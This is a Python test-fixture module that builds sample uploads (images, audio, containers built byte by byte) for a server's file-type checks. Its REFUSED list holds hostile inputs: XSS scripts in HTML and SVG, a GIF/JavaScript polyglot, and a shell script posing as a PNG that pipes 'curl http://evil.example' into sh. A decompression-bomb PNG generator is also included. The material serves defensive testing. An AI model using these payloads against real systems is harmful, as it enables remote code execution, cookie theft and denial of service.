"""Sample files for the upload tests (tests/test_upload.py over HTTP,
tests/unit/test_uploads.py on the type checks alone).

Pictures come from Pillow and WAV from the stdlib ``wave`` module, so they are
real files. No encoder for WebM, Ogg/Opus, MP3, M4A or AAC is at hand, so those
samples are built byte by byte the way the format's specification lays them
out: the container headers that browsers' MediaRecorder and encoders write
first (with correct sizes and, for Ogg, page checksums) followed by minimal
frames. The server only reads those headers to decide a type (it never decodes
audio), so a sample whose headers are exact is a fair test of the detector; the
MP3 frames are silent frames a decoder plays. file(1) (libmagic) names each
sample as the type it stands for.
"""

import io
import os
import struct
import wave
import zlib

from PIL import Image


# --- sample files ---------------------------------------------------------------------------
def picture(fmt, size=(24, 16), **save):
    im = Image.new("RGB", size, (200, 30, 60))
    for x in range(size[0]):
        im.putpixel((x, x % size[1]), (10, 200, 90))
    if fmt == "GIF":
        im = im.convert("P")
    buf = io.BytesIO()
    im.save(buf, fmt, **save)
    return buf.getvalue()


def noisy_png(size=(64, 64)):
    """A PNG whose pixel data does not compress away, to cut in half."""
    im = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    buf = io.BytesIO()
    im.save(buf, "PNG")
    return buf.getvalue()


def wav_clip(seconds=0.2, rate=8000):
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(b"\x00\x00" * int(seconds * rate))
    return buf.getvalue()


def _ogg_crc(data):
    """The Ogg page checksum: CRC-32, polynomial 0x04C11DB7, not reflected."""
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else crc << 1
            crc &= 0xFFFFFFFF
    return crc


def _ogg_page(packet, seq, flags, granule=0, serial=0x1234):
    assert len(packet) < 255
    header = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, granule, serial, seq, 0, 1) + bytes([len(packet)])
    page = header + packet
    return page[:22] + struct.pack("<I", _ogg_crc(page)) + page[26:]


def ogg_opus_clip():
    """The two header pages of an Ogg Opus stream (RFC 7845): OpusHead, OpusTags."""
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 312, 48000, 0, 0)
    vendor = b"ginchat"
    tags = b"OpusTags" + struct.pack("<I", len(vendor)) + vendor + struct.pack("<I", 0)
    return _ogg_page(head, 0, 0x02) + _ogg_page(tags, 1, 0x00)


def _ebml(element_id, payload):
    """One EBML element with an 8-byte size (as MediaRecorder writes)."""
    return element_id + b"\x01" + struct.pack(">Q", len(payload))[1:] + payload


def webm_opus_clip():
    """An EBML header with DocType webm and a Segment whose Tracks hold one
    Opus audio track, the start of what Chrome's MediaRecorder writes."""
    header = _ebml(
        b"\x1a\x45\xdf\xa3",
        b"".join(
            [
                _ebml(b"\x42\x86", b"\x01"),
                _ebml(b"\x42\xf7", b"\x01"),
                _ebml(b"\x42\xf2", b"\x04"),
                _ebml(b"\x42\xf3", b"\x08"),
                _ebml(b"\x42\x82", b"webm"),
                _ebml(b"\x42\x87", b"\x04"),
                _ebml(b"\x42\x85", b"\x02"),
            ]
        ),
    )
    audio = _ebml(b"\xe1", _ebml(b"\xb5", struct.pack(">f", 48000.0)) + _ebml(b"\x9f", b"\x01"))
    track = _ebml(
        b"\xae",
        _ebml(b"\xd7", b"\x01")
        + _ebml(b"\x73\xc5", b"\x01")
        + _ebml(b"\x83", b"\x02")
        + _ebml(b"\x86", b"A_OPUS")
        + audio,
    )
    segment = _ebml(b"\x18\x53\x80\x67", _ebml(b"\x16\x54\xae\x6b", track))
    return header + segment


def mp3_clip(frames=3):
    """An ID3v2.3 tag and silent MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz,
    mono): 417 bytes each, all-zero side information and data."""
    title = b"\x00voice"
    frame = b"TIT2" + struct.pack(">I", len(title)) + b"\x00\x00" + title
    tag = b"ID3\x03\x00\x00" + bytes([0, 0, 0, len(frame)]) + frame
    mpeg = b"\xff\xfb\x90\xc0" + bytes(417 - 4)
    return tag + mpeg * frames


def adts_clip(frames=3):
    """AAC-LC in ADTS frames (44.1 kHz, mono), each a 7-byte header and payload."""
    payload = bytes(16)
    length = 7 + len(payload)
    header = bytes([0xFF, 0xF1, 0x50, 0x40 | (length >> 11), (length >> 3) & 0xFF, ((length & 7) << 5) | 0x1F, 0xFC])
    return (header + payload) * frames


def _box(kind, payload):
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def m4a_clip(handler=b"soun"):
    """ftyp (brand M4A) and a moov whose track's handler says sound: the boxes
    the detector reads, laid out as in any M4A (sample tables left out)."""
    ftyp = _box(b"ftyp", b"M4A " + struct.pack(">I", 0) + b"M4A isommp42")
    hdlr = _box(b"hdlr", bytes(4) + bytes(4) + handler + bytes(12) + b"SoundHandler\x00")
    mdhd = _box(b"mdhd", bytes(4) + struct.pack(">IIIIHH", 0, 0, 48000, 0, 0x55C4, 0))
    trak = _box(b"trak", _box(b"mdia", mdhd + hdlr))
    moov = _box(b"moov", trak)
    return ftyp + moov + _box(b"mdat", b"")


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width, height):
    """A 1-bit greyscale PNG of width x height black pixels: a few hundred KB
    that would decode to width*height pixels (a decompression bomb)."""
    row = b"\x00" + bytes((width + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def jpeg_with_location(orientation=None):
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Maker"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (35.0, 41.0, 22.0)
    gps[3], gps[4] = "E", (139.0, 41.0, 30.0)
    if orientation:
        exif[0x0112] = orientation
    return picture("JPEG", size=(40, 20), exif=exif.tobytes(), comment=b"secret comment")


ACCEPTED = [
    ("png", lambda: picture("PNG"), "image/png", "x.png", "image/png"),
    ("jpg", lambda: picture("JPEG"), "image/jpeg", "photo.jpeg", "image/jpeg"),
    ("gif", lambda: picture("GIF"), "image/gif", "a.gif", "image/gif"),
    ("webp", lambda: picture("WEBP"), "image/webp", "b.webp", "image/webp"),
    ("wav", wav_clip, "audio/wav", "v.wav", "audio/wav"),
    ("ogg", ogg_opus_clip, "audio/ogg", "v.ogg", "audio/ogg"),
    ("webm", webm_opus_clip, "audio/webm", "v.webm", "audio/webm"),
    ("mp3", mp3_clip, "audio/mpeg", "v.mp3", "audio/mpeg"),
    ("m4a", m4a_clip, "audio/mp4", "v.m4a", "audio/mp4"),
    ("aac", adts_clip, "audio/aac", "v.aac", "audio/aac"),
]


# Files no upload may be, with the name and Content-Type they come under.
REFUSED = [
    (
        "html",
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "x.html",
        "text/html",
    ),
    (
        "svg",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "x.svg",
        "image/svg+xml",
    ),
    ("script-as-png", b"#!/bin/sh\ncurl http://evil.example | sh\n", "cute.png", "image/png"),
    ("js-after-gif-magic", b"GIF89a/*\x00\x00*/=1;alert(document.domain);//", "a.gif", "image/gif"),
    ("png-magic-then-html", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>", "a.png", "image/png"),
    ("riff-avi", b"RIFF\x10\x00\x00\x00AVI LIST\x04\x00\x00\x00hdrl", "a.wav", "audio/wav"),
    ("ogg-theora-video", _ogg_page(b"\x80theora" + bytes(34), 0, 0x02), "a.ogg", "audio/ogg"),
    ("matroska-not-webm", _ebml(b"\x1a\x45\xdf\xa3", _ebml(b"\x42\x82", b"matroska")), "a.webm", "audio/webm"),
    ("mp4-video", m4a_clip(handler=b"vide"), "a.m4a", "audio/mp4"),
    ("pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "a.pdf", "application/pdf"),
    ("random-bytes", bytes(range(256)) * 8, "a.mp3", "audio/mpeg"),
]
